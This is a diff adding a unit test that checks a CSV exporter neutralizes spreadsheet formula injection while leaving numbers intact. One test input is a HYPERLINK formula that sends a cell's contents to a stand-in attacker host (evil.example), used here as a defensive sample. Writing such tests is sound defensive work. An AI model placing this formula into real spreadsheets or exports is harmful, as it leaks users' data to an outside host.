@@ -33,6 +33,23 @@ test("CSV: header row, CRLF, quoting of commas, quotes and line breaks; lists jo
   assert.deepEqual(parseCsv(text), [["a", "b", "c"], ['say "hi"', "x,y", "line1\nline2"], ["g1; g2", "3", ""], ["plain", "ünïcødé", ""]]);
 });
 
+test("CSV: text a spreadsheet would run as a formula is neutralized; numbers are not", () => {
+  const text = toCsv(["q", "n"], [
+    { q: '=HYPERLINK("http://evil.example/?"&A1,"x")', n: -5 },
+    { q: "-- comment\nSELECT 1", n: 0 },
+    { q: "+1", n: 1 },
+    { q: "@SUM(A1)", n: 2 },
+    { q: "SELECT '=x'", n: 3 },
+  ]);
+  assert.deepEqual(parseCsv(text).slice(1), [
+    [`'=HYPERLINK("http://evil.example/?"&A1,"x")`, "-5"],
+    ["'-- comment\nSELECT 1", "0"],
+    ["'+1", "1"],
+    ["'@SUM(A1)", "2"],
+    ["SELECT '=x'", "3"],
+  ]);
+});
+
 test("canonical JSON sorts keys at every level and drops undefined", () => {
   assert.equal(canonicalJson({ b: 1, a: { d: [1, { z: "x", y: true }], c: undefined } }), '{"a":{"d":[1,{"y":true,"z":"x"}]},"b":1}');
   assert.throws(() => canonicalJson({ x: 1.5 }), /not a safe integer/);
